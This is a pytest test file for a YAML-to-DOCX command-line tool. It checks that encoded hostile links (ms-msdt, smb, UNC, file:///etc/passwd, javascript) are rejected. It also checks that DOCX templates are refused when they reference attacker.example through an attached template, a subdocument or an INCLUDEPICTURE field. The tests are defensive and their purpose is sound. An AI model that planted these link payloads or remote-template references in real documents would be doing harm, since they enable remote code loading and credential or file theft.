"""Hostile and broken input, round two (issue 13 §2): one section per class.

Each test fails on the code before the fix for the reason the issue gives
(a live link, a copied external target, a modified store, a traceback …)
and asserts what a user sees: exit 2 with one located line, nothing written,
or the file left as it was.
"""
from __future__ import annotations

import io
import re
import zipfile

import pytest

from conftest import EXAMPLE

HEAD = ("kind: joint-statement\nid: t\ndate: 2024-04-10\nparties: [doe, mext]\n"
        "title: {en: Title, ja: 表題}\nbody:\n")


def one_located_line(err: str, path) -> None:
    """Exactly one ``path:line:col: error: …`` line, no traceback."""
    assert err.count("\n") == 1, err
    assert re.match(rf"{re.escape(str(path))}:\d+:\d+: error: ", err), err
    assert "Traceback" not in err and "internal error" not in err


def docx_rels(data: bytes) -> str:
    """Every relationship file of a DOCX, joined."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "\n".join(z.read(n).decode() for n in z.namelist() if n.endswith(".rels"))


# ------------------------------------------------------------------ 1. link allow-list bypass


@pytest.mark.parametrize("link", [
    "[x](ms-msdt&colon;/id PCWDiagnostic)", "[y](smb&colon;//host/share)", "[z](//host/x)", r"[w](\\\\server\\share)",
    "[v](file&#58;///etc/passwd)", "[u](javascript&#x3A;alert(1))", "[t](relative/page)",
])
def test_link_targets_are_decoded_before_the_scheme_is_checked(tmp_path, cli, link):
    p = tmp_path / "doc.yaml"
    p.write_text(HEAD + f'  - id: p1\n    en: "see {link} here"\n    ja: x\n', encoding="utf-8")
    code, _, err = cli("check", p)
    assert code == 2, err
    one_located_line(err, p)
    assert "only http, https and mailto" in err
    out = tmp_path / "out"
    code, _, err = cli("build", p, "-o", out)
    assert code == 2 and not (out.exists() and any(out.iterdir()))


def test_allowed_links_still_become_hyperlinks(tmp_path, cli):
    p = tmp_path / "doc.yaml"
    p.write_text(HEAD.replace("[doe, mext]", "[doe, mext]") +
                 '  - id: p1\n    en: "see [a](https://x.org/a) and [m](mailto:a@b.org)"\n    ja: "[a](https://x.org/a)"\n',
                 encoding="utf-8")
    out = tmp_path / "out"
    code, _, err = cli("build", p, "-o", out, "--force")
    assert code == 0, err
    rels = "\n".join(docx_rels(f.read_bytes()) for f in out.glob("*.docx"))
    assert 'Target="https://x.org/a"' in rels and "mailto:a@b.org" in rels


# ------------------------------------------------------------------ 2. --template with external targets; 20. bad geometry


def _template(tmp_path, change) -> "Path":
    import docx

    from conftest import ROOT

    d = docx.Document(str(ROOT / "templates" / "reference.docx"))
    change(d)
    path = tmp_path / "template.docx"
    d.save(str(path))
    return path


OFFICE_RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _attached_template(d):
    from docx.oxml import parse_xml
    from docx.oxml.ns import nsdecls

    part = d.part._settings_part
    r_id = part.relate_to("http://attacker.example/t.dotm", OFFICE_RT + "attachedTemplate", is_external=True)
    part.element.append(parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{r_id}"/>'))


def _sub_document(d):

    d.part.relate_to("http://attacker.example/sub.docx", OFFICE_RT + "subDocument", is_external=True)


def _include_picture(d):
    from docx.oxml import parse_xml
    from docx.oxml.ns import nsdecls

    p = d.sections[0].header.paragraphs[0]._p
    for xml in ('<w:r {}><w:fldChar w:fldCharType="begin"/></w:r>',
                '<w:r {}><w:instrText xml:space="preserve"> INCLUDEPICTURE "http://attacker.example/x.png" \\d </w:instrText></w:r>',
                '<w:r {}><w:fldChar w:fldCharType="end"/></w:r>'):
        p.append(parse_xml(xml.format(nsdecls("w"))))


def _margins_wider_than_page(d):
    s = d.sections[-1]
    s.left_margin = s.page_width


def _page_size_not_a_number(d):
    from docx.oxml.ns import qn

    d.element.body.find(qn("w:sectPr")).find(qn("w:pgSz")).set(qn("w:w"), "wide")


def _no_section_properties(d):
    from docx.oxml.ns import qn

    body = d.element.body
    body.remove(body.find(qn("w:sectPr")))


@pytest.mark.parametrize("change", [_attached_template, _sub_document, _include_picture,
                                    _margins_wider_than_page, _page_size_not_a_number, _no_section_properties])
def test_a_template_with_external_targets_or_no_page_is_refused(tmp_path, cli, change):
    bad = _template(tmp_path, change)
    out = tmp_path / "out"
    code, _, err = cli("build", EXAMPLE, "-o", out, "--template", bad)
    assert code == 2, err
    one_located_line(err, bad)
    assert err.startswith(f"{bad}:1:1: error: not a usable DOCX template (")
    assert not (out.exists() and any(out.iterdir()))


def test_a_plain_template_still_builds(tmp_path, cli):
    good = _template(tmp_path, lambda d: None)
    code, _, err = cli("build", EXAMPLE, "-o", tmp_path / "out", "--template", good)
    assert code == 0, err
    assert "attacker" not in "".join(docx_rels(f.read_bytes()) for f in (tmp_path / "out").glob("*.docx"))
